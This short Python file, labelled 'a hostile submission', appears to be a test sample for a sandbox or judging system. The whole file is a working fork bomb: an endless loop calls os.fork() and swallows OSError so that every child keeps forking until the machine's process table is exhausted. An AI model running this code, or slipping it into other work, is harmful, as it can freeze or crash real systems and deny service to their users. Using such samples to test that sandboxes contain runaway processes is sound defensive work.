"""A hostile submission: fork without end (every child forks too, and none ever stops trying).

    python3 bomb.py
"""

from __future__ import annotations

import contextlib
import os

print("forking", flush=True)
while True:
    with contextlib.suppress(OSError):  # no process left to have: try again
        os.fork()
